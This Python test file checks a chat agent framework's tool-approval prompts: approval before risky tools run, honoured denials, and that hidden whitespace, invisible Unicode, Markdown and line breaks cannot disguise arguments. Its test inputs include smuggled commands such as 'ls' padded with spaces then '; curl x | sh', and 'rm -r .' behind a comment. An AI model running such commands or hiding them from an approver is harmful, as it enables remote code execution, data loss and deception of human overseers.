import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from tests.agents.model.function_model import Actor, agent_of, files
from tests.agents.model.stored_conversation import Talk
from threadline.agents.model.approvals import ask_about, fitting
from threadline.core.agent import Question
from threadline.core.approval import QUESTION_LIMIT, Approval, ToolRules, reveal, write_answer
from threadline.core.message import PARTS_LIMIT, NewMessage, Role, ToolCall, ToolResult
from threadline.core.platform import Unit
from threadline.core.splitting import Limit, split
from threadline.core.system_notes import note_interruption
from threadline.platforms.telegram.entities import render_entities

CAREFUL = ToolRules(ask=("files_write",))
READ = ("files_read", '{"path": "a.txt"}')
WRITE = ("files_write", '{"path": "b.txt"}')
YES = write_answer(Approval.APPROVED)
NO = write_answer(Approval.DENIED)


def results(talk: Talk) -> dict[str, str]:
    return {
        part.call_id: part.text for part in talk.parts(Role.TOOL) if isinstance(part, ToolResult)
    }


async def asked(done: list[str], *calls: tuple[str, str]) -> Talk:
    """Let a model call tools, up to the question."""
    talk = Talk()
    await talk.says(agent_of(Actor(calls), files(done), tools=CAREFUL), "Do it")
    assert isinstance(talk.question, Question)
    return talk


async def test_a_person_is_asked_first() -> None:
    """A tool that needs leave is not run; what the model wants is said in words."""
    done: list[str] = []
    talk = await asked(done, WRITE)

    assert done == []
    assert talk.question.tools == ("files_write",)
    assert "files_write" in talk.question.text
    assert "path: b.txt" in talk.question.text
    assert talk.lines[-1].role is Role.ASSISTANT


async def test_free_tools_run_while_a_person_is_asked() -> None:
    """Of several calls only those wait that need leave."""
    done: list[str] = []
    talk = await asked(done, READ, WRITE)

    assert done == ["read a.txt"]
    assert results(talk) == {"call_1": "content of a.txt"}
    assert "a.txt" not in talk.question.text


async def test_leave_is_given_in_another_process() -> None:
    """After hours and a restart the history alone says what was allowed."""
    done: list[str] = []
    talk = await asked(done, READ, WRITE)
    actor = Actor("It is written.")

    said = await talk.goes_on(agent_of(actor, files(done), tools=CAREFUL), YES)

    assert said == "It is written."
    assert done == ["read a.txt", "wrote b.txt"]
    assert results(talk)["call_2"] == "written"
    assert "written" in actor.texts


@pytest.mark.parametrize(
    ("answer", "words"),
    [(NO, ""), (write_answer(Approval.DENIED, "use c.txt"), "use c.txt"), ("why?", "why?")],
)
async def test_what_is_not_allowed_is_not_done(answer: str, words: str) -> None:
    """A denial, its words, or any other words are told to the model, which goes on from there."""
    done: list[str] = []
    talk = await asked(done, WRITE)
    actor = Actor("Then not.")

    said = await talk.goes_on(agent_of(actor, files(done), tools=CAREFUL), answer)

    assert (said, done) == ("Then not.", [])
    assert "did not allow this" in results(talk)["call_1"]
    assert words in results(talk)["call_1"]


async def test_a_turn_that_was_cut_off_after_the_leave_does_it_only_once() -> None:
    """What may have been done already is not done again, only because leave was given once."""
    done: list[str] = []
    talk = await asked(done, WRITE)
    talk.keep(note_interruption(0))
    actor = Actor("I do not know whether it is written.")

    await talk.goes_on(agent_of(actor, files(done), tools=CAREFUL), YES)

    assert done == []
    assert any("interrupted" in text for text in actor.texts)


async def test_what_was_barred_meanwhile_is_not_done() -> None:
    """Leave from before does not outlive the tool's place in the configuration."""
    done: list[str] = []
    talk = await asked(done, WRITE)

    barred = agent_of(Actor("ok"), files(done), tools=ToolRules(use=("files_read",)))
    await talk.goes_on(barred, YES)

    assert done == []
    assert "no tool called files_write" in results(talk)["call_1"]


async def test_what_was_allowed_for_longer_is_not_asked_again() -> None:
    """A tool for which leave was given before is free."""
    done: list[str] = []
    talk = Talk()
    talk.allowed = frozenset({"files_write"})

    await talk.says(agent_of(Actor([WRITE], "Done."), files(done), tools=CAREFUL), "Do it")

    assert done == ["wrote b.txt"]


async def test_a_turn_may_ask_again() -> None:
    """After one answer the model may want something else, and that is asked for, too."""
    done: list[str] = []
    talk = await asked(done, WRITE)
    other = ("files_write", '{"path": "c.txt"}')

    await talk.goes_on(agent_of(Actor([other]), files(done), tools=CAREFUL), YES)

    assert done == ["wrote b.txt"]
    assert "c.txt" in talk.question.text
    assert "b.txt" not in talk.question.text


async def test_a_call_that_differs_from_what_was_shown_is_not_made() -> None:
    """What was approved runs, or nothing: the model is told to make the call again."""
    done: list[str] = []
    talk = await asked(done, WRITE)
    for n, line in enumerate(talk.lines):
        parts = tuple(
            replace(part, arguments='{"path": "other.txt"}') if isinstance(part, ToolCall) else part
            for part in line.parts
        )
        talk.lines[n] = replace(line, parts=parts)

    await talk.goes_on(agent_of(Actor("ok"), files(done), tools=CAREFUL), YES)

    assert done == []
    assert "not what a person approved" in next(iter(results(talk).values()))


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ('{"path": "a", "path": "b"}', '"path": "a"'),
        ('{"amount": 1.00000000000000000001}', "1.00000000000000000001"),
        ('{"amount": 1e999}', "1e999"),
        ('{"amount": NaN}', "NaN"),
    ],
)
def test_arguments_that_can_be_read_in_two_ways_are_shown_as_written(
    written: str, shown: str
) -> None:
    """A key that comes twice, or a number that loses digits, is not hidden by how it is read."""
    call = ToolCall(id="1", name="run", arguments=written)

    assert shown in ask_about([call]).text


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ('{"a": "false"}', '{"a": false}'),
        ('{"a": "1"}', '{"a": 1}'),
        ('{"a": "[1]"}', '{"a": [1]}'),
        ('{"a": "{\\"b\\": 1}"}', '{"a": {"b": 1}}'),
        ('{"a": "\\"1\\""}', '{"a": "1"}'),
        ('{"a: b": "c"}', '{"a": "b: c"}'),
        ('{"a: b\\": c": "d"}', '{"a: b": "c\\": d"}'),
    ],
)
def test_no_two_arguments_are_shown_in_the_same_way(one: str, other: str) -> None:
    """A tool may take the text `false` for true, and a name may look like a value.

    Both were shown as the other, so that a person approved what they did not see.
    """
    shown = [
        ask_about([ToolCall(id="1", name="run", arguments=text)]).text for text in (one, other)
    ]

    assert shown[0] != shown[1]


def read_back(text: str) -> str:
    """Undo what makes hidden characters visible."""
    named = {"spaces": " ", "tabs": "\t", "line breaks": "\n"}
    text = re.sub(r"⟦(\d+) line breaks⟧\n", r"⟦\1 line breaks⟧", text.replace("\n      | ", "\n"))
    text = re.sub(r"⟦(\d+) (\D+)⟧", lambda found: named[found.group(2)] * int(found.group(1)), text)
    return re.sub(r"⟦U\+(\w+)⟧", lambda found: chr(int(found.group(1), 16)), text)


@given(st.lists(st.dictionaries(st.text(), st.text()), min_size=1, max_size=5))
def test_every_character_is_shown_and_no_call_can_be_faked(calls: list[dict[str, str]]) -> None:
    """Whatever the arguments are, an approver is sent all of them, and each call is one block."""
    made = [
        ToolCall(id=str(n), name="files_write", arguments=json.dumps(given))
        for n, given in enumerate(calls)
    ]
    text = ask_about(fitting(made)).text

    lines = [line for line in text.split("\n") if line and not line.startswith(" ")]
    assert [line for line in lines[1:] if line.strip("`")] == ["files_write"] * len(made)
    shown = read_back(text.replace("\n  | ", "\n      | "))
    for given_arguments in calls:
        for name, value in given_arguments.items():
            assert f"{name}: " in shown or f'"{name}": ' in shown
            assert value in shown


@pytest.mark.parametrize(
    ("hidden", "shown"),
    [
        ("ls" + " " * 48 + "; curl x | sh", "ls⟦48 spaces⟧; curl x | sh"),
        ("a\u202eb", "a⟦U+202E⟧b"),
        ("a\u200bb", "a⟦U+200B⟧b"),
        ("a\x1b[8mb", "a⟦U+001B⟧[8mb"),
        ("a\u00a0b", "a⟦U+00A0⟧b"),
        ("a\U000e0041b", "a⟦U+E0041⟧b"),
        ("a\ufe0f\U000e0141b", "a⟦U+FE0F⟧⟦U+E0141⟧b"),
        ("a\U0001d159b", "a⟦U+1D159⟧b"),
        ("a\ufffcb\u1175c\u11a8", "a⟦U+FFFC⟧b⟦U+1175⟧c⟦U+11A8⟧"),
        ("\u1112\u1161\u11ab", "\u1112\u1161\u11ab"),
        ("rm\U0001107f \u2d7fx\U00016fe4", "rm⟦U+1107F⟧ ⟦U+2D7F⟧x⟦U+16FE4⟧"),
        ("\u1019\u1039\u1019 a\u1039b", "\u1019\u1039\u1019 a⟦U+1039⟧b"),
        ("rm\u0336 \u0301x", "rm⟦U+0336⟧ ⟦U+0301⟧x"),
        ("e" + "\u0301" * 5, "e" + "\u0301" * 4 + "⟦U+0301⟧"),
        ("ก็ नमस्ते", "ก็ नमस्ते"),
        ("a" + " \t" * 9 + "b", "a" + "⟦1 spaces⟧⟦1 tabs⟧" * 9 + "b"),
        ("a" + "`" * 6, "a⟦6 backticks⟧"),
        ("⟦48 spaces⟧", "⟦U+27E6⟧48 spaces⟦U+27E7⟧"),
        ("x" * 5000, "x" * 5000),
    ],
)
def test_nothing_in_an_argument_is_hidden(hidden: str, shown: str) -> None:
    """Characters that cannot be seen are written out, and a long argument is not cut."""
    call = ToolCall(id="1", name="run", arguments=json.dumps({"command": hidden}))

    assert f"command: {shown}\n" in ask_about([call]).text


HARD = st.text(
    st.sampled_from("ab `~*_[]()<>&|:\n\t\x1b\u202e\u200b\u00a0\U0001f469\u0301⟦⟧"), max_size=60
)


@pytest.mark.parametrize(("most", "seams"), [(64, "\n`"), (4096, "\n")])
@given(st.dictionaries(st.text("ab`", min_size=1), HARD, max_size=4), st.integers(1, 40))
def test_every_character_arrives_in_the_messages_of_a_chat(
    most: int, seams: str, arguments: dict[str, str], times: int
) -> None:
    """However a question is cut into messages and styled, nothing but a line break is lost.

    In very short messages a fence that is repeated may be seen, too.
    """
    given_arguments = {name: value * times for name, value in arguments.items()}
    call = ToolCall(id="1", name="run", arguments=json.dumps(given_arguments))
    text = ask_about([call]).text

    limit = Limit(most=most, unit=Unit.UTF16)
    messages = [render_entities(cut.text).text for cut in split(text, limit)]

    def unbroken(shown: str) -> str:
        return shown.translate(dict.fromkeys(map(ord, seams)))

    arrived = unbroken("".join(messages))
    for value in given_arguments.values():
        for line in reveal(value).split("\n"):
            assert unbroken(line) in arrived


async def test_a_call_that_is_too_long_to_show_is_not_asked_about() -> None:
    """Nothing is cut: the model is told to make the call in smaller parts."""
    done: list[str] = []
    talk = Talk()
    huge = ("files_write", json.dumps({"path": "x" * QUESTION_LIMIT}))
    await talk.says(agent_of(Actor([huge], "I see"), files(done), tools=CAREFUL), "Do it")

    assert not any(isinstance(output, Question) for output in talk.outputs)
    assert "in smaller parts" in next(iter(results(talk).values()))
    assert done == []


async def test_nobody_gives_leave_for_what_they_were_not_shown() -> None:
    """Of too many calls some are asked about; the others are not done, and not allowed."""
    done: list[str] = []
    calls = [("files_write", f'{{"path": "{n}{"x" * 3000}"}}') for n in range(99)]
    talk = await asked(done, *calls, ("files_remove", "{}"))

    assert talk.question.tools == ("files_write",)
    shown = [n for n in range(99) if f"path: {n}x" in talk.question.text]
    assert shown == list(range(len(shown)))
    assert f"these {len(shown)} tools" in talk.question.text
    assert len(results(talk)) == 100 - len(shown)

    await talk.goes_on(agent_of(Actor("ok"), files(done), tools=CAREFUL), YES)

    assert {said.partition("x")[0] for said in done} == {f"wrote {n}" for n in shown}


async def test_an_answer_of_many_parts_is_asked_about_as_a_whole() -> None:
    """What a person was shown is done, in whichever line of the transcript it stands."""
    done: list[str] = []
    talk = await asked(done, WRITE, *[READ] * PARTS_LIMIT)

    await talk.goes_on(agent_of(Actor("ok"), files(done), tools=CAREFUL), YES)

    assert done.count("wrote b.txt") == 1


@pytest.mark.parametrize("value", ["[ls](http://far.example/)", "**ls**", "`ls`", "```\nls\n```"])
def test_what_is_asked_about_reads_as_it_is(value: str) -> None:
    """An argument is code: Markdown in it hides nothing of what a person allows."""
    call = ToolCall(id="1", name="run", arguments=json.dumps({"command": value}))
    shown = render_entities(ask_about([call]).text)

    assert value.split("\n", maxsplit=1)[0] in shown.text
    assert [entity.type for entity in shown.entities] == ["pre"]


def test_a_line_break_is_seen() -> None:
    """A second command does not look like the end of a comment."""
    call = ToolCall(id="1", name="run", arguments=json.dumps({"command": "# tidy up\nrm -r ."}))

    assert "  command: \n  | # tidy up\n  | rm -r ." in ask_about([call]).text


async def test_a_denial_is_no_message_of_the_agent() -> None:
    """The result of a denial stands in the transcript as the tool's."""
    talk = await asked([], WRITE)
    await talk.goes_on(agent_of(Actor("ok"), files([]), tools=CAREFUL), NO)
    first = next(output for output in talk.outputs if isinstance(output, NewMessage))

    assert first.role is Role.TOOL
